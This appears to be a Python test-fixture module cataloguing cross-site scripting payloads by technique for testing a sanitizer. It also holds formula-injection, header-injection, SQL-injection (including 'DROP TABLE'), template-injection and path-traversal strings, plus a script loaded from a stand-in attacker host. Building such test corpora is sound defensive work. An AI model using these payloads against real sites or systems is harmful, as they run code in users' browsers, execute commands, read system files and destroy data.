"""Attempts to have text act as markup or script, one of every known family; `alert(1)` is what each would do.

Written by hand for these tests.  `PAYLOADS` groups them by the trick that they try.
"""

# ruff: noqa: E501 -- tables of cases; odd characters are the point
from __future__ import annotations

_EVENTS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover onpointerrawupdate onanimationstart onanimationend "
    "ontransitionend ontoggle onbeforetoggle onscroll onscrollend onwheel oncopy oncut onpaste ondrag ondrop oninput onchange onsubmit "
    "oninvalid onkeydown oncontextmenu onauxclick onresize onhashchange onpageshow onmessage onbegin onend onrepeat oncanplay "
    "onloadeddata onplay ontimeupdate oncuechange onsecuritypolicyviolation oncontentvisibilityautostatechange onslotchange"
).split()

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script elements": (
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >", "<script src=data:,alert(1)></script>",
        "<script/x>alert(1)</script>", "<script\x0c>alert(1)</script>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script type=module>alert(1)</script>", "<script>alert`1`</script>", "<script>/*</script><svg onload=*/alert(1)//>", "<script x",
        "<script>eval('al'+'ert(1)')</script>", "<<script>alert(1)//<</script>", "<script src=//evil.example/x.js>", "<script>import('data:text/javascript,alert(1)')</script>",
    ),
    "event attributes": tuple(f"<x-{name[2:]} tabindex=0 autofocus {name}=alert(1)>x</x-{name[2:]}>" for name in _EVENTS),
    "elements that act by themselves": (
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>", "<svg><set attributeName=onmouseover to=alert(1)>",
        "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>", "<button popovertarget=x onclick=alert(1)>x</button>", "<dialog open onclose=alert(1)>x</dialog>",
        "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<frameset onload=alert(1)>", "<portal src=javascript:alert(1)>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=javascript:alert(1)//>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1) type=image>",
        "<table background=javascript:alert(1)>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<slot onslotchange=alert(1)></slot>",
    ),
    "breaking out of where text stands": (
        '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '"autofocus/onfocus="alert(1)', "` onmouseover=`alert(1)",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</noscript><script>alert(1)</script>",
        "</template><script>alert(1)</script>", "</svg><script>alert(1)</script>", "</math><script>alert(1)</script>", "</xmp><script>alert(1)</script>", "</select><script>alert(1)</script>",
        "--><script>alert(1)</script>", "--!><script>alert(1)</script>", "]]><script>alert(1)</script>", "*/alert(1)/*", '";alert(1);//', "';alert(1);//", "\\';alert(1);//", "${alert(1)}", "`+alert(1)+`",
        "</a><a href=javascript:alert(1)>", "\"></iframe><script>alert(1)</script>", "x\" srcdoc=\"<script>alert(1)</script>", "?><script>alert(1)</script>",
    ),
    "addresses that act": (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)",
        "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "%6aavascript:alert(1)", "javascript://%0aalert(1)", "javascript:/*--></title>*/alert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "blob:null/x", "filesystem:x",
        "//evil.example/", "\\\\evil.example\\x", "https:evil.example", "livescript:alert(1)", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/",
    ),
    "markdown that becomes markup": (
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#10;script:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "![x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))",
        "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "[x](<javascript:alert(1)>)", "[x](https://a \"\" onclick=alert(1))", "`<script>alert(1)</script>`", "```\n</code><script>alert(1)</script>\n```",
        "> <script>alert(1)</script>", "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |", "# <img src=x onerror=alert(1)>", "{claim: \"><script>alert(1)</script>}", "[@\"><script>alert(1)</script>]",
        "[^1]\n\n[^1]: <script>alert(1)</script>", "<div markdown=1><script>alert(1)</script></div>", "\\<script>alert(1)\\</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "[a](//evil.example)<img src=x onerror=alert(1)>",
    ),
    "markup that changes when it is parsed again": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>", "<table><td><svg><desc><td><script>alert(1)</script>", "<select><style></select><img src=x onerror=alert(1)></style>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "<?xml-stylesheet href=javascript:alert(1)?>", "<plaintext><script>alert(1)</script>", "<a id=x><a id=x name=y href=javascript:alert(1)>",
    ),
    "other ways to write the same letters": (
        "\u003cscript\u003ealert(1)\u003c/script\u003e", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)%253C/script%253E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "\u2028<script>alert(1)</script>\u2029", "\ufeff<script>alert(1)</script>", "<\u200bscript>alert(1)</script>", "\u202e<script>alert(1)</script>", "¼script¾alert(1)¼/script¾",
        "<ſcript>alert(1)</ſcript>", "<img src=x oneſrror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)", "\ud83d\ude00<script>alert(1)</script>".encode("utf-16", "surrogatepass").decode("utf-16"), "<scr\xadipt>alert(1)</script>",
    ),
    "styles, templates, frameworks, tables": (
        "<style>*{background:url(javascript:alert(1))}</style>", "<x style=x:expression(alert(1))>", "<x style='behavior:url(#default#time2)'>", "<div style=animation-name:x onanimationstart=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
        "{{7*7}}", "{% for x in () %}{% endfor %}", "{{ ''.__class__.__mro__ }}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "=cmd|'/c calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "x\r\nSet-Cookie: a=b", "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "' OR 1=1 --", "'; DROP TABLE claim; --", "\" NEAR(a b)", "*", "../../../etc/passwd", "..\\..\\windows", "__proto__", "constructor", "\\documentclass{x}\\input{/etc/passwd}",
    ),
}  # fmt: skip

EVERY = tuple(payload for group in PAYLOADS.values() for payload in group)
